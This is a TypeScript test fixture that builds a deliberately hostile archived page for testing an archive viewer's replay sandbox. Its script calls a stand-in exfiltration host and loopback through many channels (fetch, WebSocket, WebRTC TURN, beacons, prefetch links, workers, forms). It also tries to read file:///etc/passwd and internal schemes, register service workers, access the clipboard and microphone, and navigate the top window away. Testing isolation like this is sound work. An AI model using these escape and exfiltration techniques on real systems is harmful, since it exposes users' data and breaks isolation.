import type { Archived } from './make-archive.ts';

/** Names that must never be looked up. */
export const hostileName = 'exfiltrate-holdfast-test.example.org';

/**
 * A page that tries every way out it knows, both through the rewritten functions it is given and through untouched ones
 * taken from an inner frame. What it reached it writes into `#reached`; `#native` tells whether it had the latter.
 */
export function hostileArchive(loopback: string): Archived[] {
  const script = `
    const reached = [];
    const note = (what) => { reached.push(what); };
    let step = 0;
    const within = (work) => Promise.race([Promise.resolve().then(work).catch(() => undefined), new Promise((r) => setTimeout(r, 4000))]);
    const out = ${JSON.stringify([loopback, `https://${hostileName}`])};
    const raw = document.defaultView.eval('window')[0];
    const worlds = [self, raw, raw.top];
    const isNative = () => [raw, raw.top].every((w) => [w.fetch, w.WebSocket, w.EventSource, w.open].every((f) => /native code/.test(raw.Function.prototype.toString.call(f))));
    document.querySelector('#native').textContent = String(isNative());
    const plain = { referrerPolicy: 'no-referrer', mode: 'no-cors', cache: 'no-store' };
    const get = (w, url, how) => w.fetch(url, how).then((answer) => answer.type === 'opaque' || (answer.ok && url.startsWith('h') && !url.includes('/w/')) ? note('fetch ' + url) : 0, () => 0);
    const call = async (w, base) => {
      const { host } = new URL(base);
      const iceServers = [{ urls: ['stun:' + host, 'stun:stun-' + host] }, { urls: ['turn:' + host + '?transport=tcp', 'turns:turn-' + host], username: 'u', credential: 'p' }];
      const peer = new w.RTCPeerConnection({ iceServers });
      note('peer connection');
      peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((r) => setTimeout(r, 2500));
    };
    const caller = (base) => '<script>(' + call.toString().replace('note(', 'void (') + ')(self, ' + JSON.stringify(base) + ')</' + 'script>';
    const works = [];
    for (const base of out) {
      // Fresh frames, asked before anything can be done to them, with and without an origin of their own.
      for (const home of [document, raw.document, raw.top.document]) works.push(() => { const f = raw.document.createElement('iframe'); home.body.append(f); return call(f.contentWindow ?? raw.top[raw.top.length - 1], base); });
      for (const sandbox of ['allow-scripts', null]) for (const fill of ['blob', 'data'])
        works.push(() => { const f = raw.document.createElement('iframe'); if (sandbox) f.setAttribute('sandbox', sandbox); const html = caller(base.replace('//', '//' + (base.includes('127.0.0.1') ? '' : (sandbox ?? 'open') + '-' + fill + '.')));
          f.setAttribute('src', fill === 'data' ? 'data:text/html,' + encodeURIComponent(html) : raw.URL.createObjectURL(new raw.Blob([html], { type: 'text/html' })));
          raw.document.body.append(f); return new Promise((r) => setTimeout(r, 800)); });
    }
    for (const w of worlds) for (const base of out) {
      const untouched = w !== self;
      works.push(() => get(w, base + '/fetch'), () => get(w, base + '/fetch-plain', plain));
      works.push(() => w.navigator.sendBeacon(base + '/beacon', 'x'));
      works.push(() => new Promise((resolve) => { const s = new w.WebSocket(base.replace('http', 'ws') + '/socket'); s.onopen = () => { if (untouched) note('socket'); resolve(); }; s.onerror = resolve; }));
      works.push(() => new Promise((resolve) => { const s = new w.EventSource(base + '/events'); s.onopen = () => { if (untouched) note('events'); resolve(); }; s.onerror = resolve; }));
      works.push(() => new Promise((resolve) => { const i = new w.Image(); i.referrerPolicy = 'no-referrer'; i.onload = () => { note('image'); resolve(); }; i.onerror = resolve; i.src = base + '/image.png'; }));
      works.push(() => { const x = new w.XMLHttpRequest(); x.open('GET', base + '/xhr', false); x.send(); if (x.status === 200 && x.responseText.includes('caught')) note('xhr'); });
      works.push(() => { if (!w.WebTransport) return; const t = new w.WebTransport(base.replace('http:', 'https:') + '/transport'); return t.ready.then(() => note('transport')); });
      works.push(() => call(w, base));
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender'])
        works.push(() => { const d = w.document; const link = d.createElement('link'); link.rel = rel; if (rel === 'preload') link.as = 'image'; link.referrerPolicy = 'no-referrer'; link.href = base + '/' + rel; d.head.append(link); });
      works.push(() => { const r = w.document.createElement('script'); r.type = 'speculationrules'; r.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [base + '/speculated'], eagerness: 'immediate' }] }); w.document.head.append(r); });
      works.push(() => { const f = w.document.createElement('iframe'); f.referrerPolicy = 'no-referrer'; w.document.body.append(f); f.setAttribute('src', base + '/frame'); });
      if (untouched) works.push(() => { const f = w.document.createElement('form'); f.action = base + '/form'; f.method = 'post'; f.target = '_blank'; w.document.body.append(f); f.submit(); });
      if (untouched) works.push(() => { const a = w.document.createElement('a'); a.href = base + '/ping-target'; a.setAttribute('ping', base + '/ping'); a.target = '_blank'; w.document.body.append(a); a.click(); });
      works.push(() => { const b = new w.Blob(['fetch(' + JSON.stringify(base + '/worker') + ').catch(() => 0); try { importScripts(' + JSON.stringify(base + '/import.js') + ') } catch {}'], { type: 'text/javascript' }); new w.Worker(w.URL.createObjectURL(b)); });
      if (untouched) works.push(() => { if (w.open(base + '/popup')) note('popup'); });
      works.push(() => { const v = w.document.createElement('video'); v.src = base + '/video.mp4'; w.document.body.append(v); v.load(); });
      works.push(() => { w.document.body.append(Object.assign(w.document.createElement('style'), { textContent: '@import url("' + base + '/import.css"); @font-face { font-family: z; src: url("' + base + '/font.woff2") } body { font-family: z; background: url("' + base + '/background.png") }' })); });
    }
    const inside = ['holdfast-app://app/', 'holdfast-app://app/index.html', 'holdfast-blob://blob/BLOB', 'holdfast-snapshot://SNAPSHOT/', 'file:///etc/passwd', 'chrome://version/', 'devtools://devtools/bundled/inspector.html'];
    for (const w of worlds) for (const url of inside) {
      const untouched = w !== self;
      works.push(() => w.fetch(url).then((answer) => { if (answer.ok) note('inside ' + url); }));
      works.push(() => w.fetch(url, plain).then(() => note('inside opaque ' + url)));
      works.push(() => { const x = new w.XMLHttpRequest(); x.open('GET', url, false); x.send(); if (x.status === 200) note('inside xhr ' + url); });
      if (untouched) works.push(() => { if (w.open(url)) note('popup ' + url); });
      works.push(() => { const f = w.document.createElement('iframe'); w.document.body.append(f); f.setAttribute('src', url); return new Promise((r) => setTimeout(r, 500)).then(() => { if (/bodies|root:x|Holdfast/.test(f.contentDocument?.body?.textContent || '')) note('frame ' + url); }); });
    }
    works.push(() => { for (const w of worlds) for (const name of ['holdfast', 'require', 'process', 'electron', 'ipcRenderer', 'module']) if (w[name] !== undefined) note('global ' + name); });
    works.push(() => { for (const w of [raw.parent, raw.top, raw.opener]) w?.postMessage({ type: 'holdfast:call', name: 'case.close', input: {} }, '*'); });
    works.push(() => { raw.top.postMessage({ msg_type: 'addColl' }, '*'); if (raw.top.opener) note('opener'); });
    works.push(() => raw.navigator.serviceWorker.register(new URL('own-worker.js', location.href).href).then(() => note('service worker of the page')));
    works.push(() => raw.navigator.serviceWorker.register('/w/archive/mp_/https://hostile.example/own-worker.js', { scope: '/w/' }).then(() => note('service worker by path')));
    works.push(() => raw.navigator.serviceWorker.register('/sw.js?serveIndex=1', { scope: '/x/' }).then(() => note('service worker with other settings')));
    works.push(() => raw.fetch('/').then((a) => a.text()).then(() => 0));
    works.push(() => raw.Notification.requestPermission().then((answer) => { if (answer === 'granted') note('notification'); }));
    works.push(() => new Promise((r) => raw.navigator.geolocation.getCurrentPosition(() => { note('position'); r(); }, r)));
    works.push(() => raw.navigator.mediaDevices?.getUserMedia({ audio: true }).then(() => note('microphone')));
    works.push(() => raw.navigator.clipboard?.readText().then(() => note('clipboard')));
    works.push(() => { const a = document.createElement('a'); a.download = 'x.txt'; a.href = raw.URL.createObjectURL(new raw.Blob(['x'])); document.body.append(a); a.click(); });
    (async () => {
      for (const work of works) await within(work);
      // At last it tries to leave.
      for (const url of ['holdfast-app://app/', 'file:///etc/passwd', out[0] + '/top']) { try { raw.top.location = url; } catch {} try { raw.top.setTimeout('location = ' + JSON.stringify(url)); } catch {} try { raw.top.document.body.append(Object.assign(raw.top.document.createElement('a'), { href: url, id: 'leave' })); raw.top.document.querySelector('#leave').click(); raw.top.document.querySelector('#leave').remove(); } catch {} await new Promise((r) => setTimeout(r, 200)); }
      document.querySelector('#native').textContent += ' ' + String(isNative());
      document.querySelector('#reached').textContent = 'done: ' + reached.join(' | ');
      for (const url of ['file:///etc/passwd', 'holdfast-app://app/']) { try { raw.parent[0].location.href = url; } catch {} }
    })();`;
  const page = `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>
    <link rel="dns-prefetch" href="//static-${hostileName}"><link rel="preconnect" href="${loopback}"></head>
    <body><h1>A hostile page</h1><p>native <b id="native"></b></p><p id="reached"></p><iframe></iframe><img src="${loopback}/static.png" alt=""><script>${script}</script></body></html>`;
  const at = '2019-01-02T03:04:05.000Z';
  return [
    { url: 'https://hostile.example/', at, type: 'text/html; charset=utf-8', body: page, title: 'Hostile' },
    { url: 'https://hostile.example/own-worker.js', at, type: 'text/javascript', body: 'self.onfetch = () => {};' },
  ];
}

/** A page that calls out from an inline frame wabac did not make, where untouched functions would be. */
export function inlineFrameArchive(): Archived[] {
  const page = `<!doctype html><title>Inline</title><h1>Inline</h1><iframe></iframe><script>
    const raw = document.defaultView.eval('window')[0].top;
    const f = raw.document.createElement('iframe');
    f.setAttribute('srcdoc', '<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: "turn:inline.${hostileName}", username: "u", credential: "p" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</' + 'script>');
    setTimeout(() => raw.Element.prototype.append.call(document.body, f), 1500);
  </script>`;
  return [
    {
      url: 'https://hostile.example/inline',
      at: '2019-01-02T03:04:05.000Z',
      type: 'text/html; charset=utf-8',
      body: page,
      title: 'Inline',
    },
  ];
}
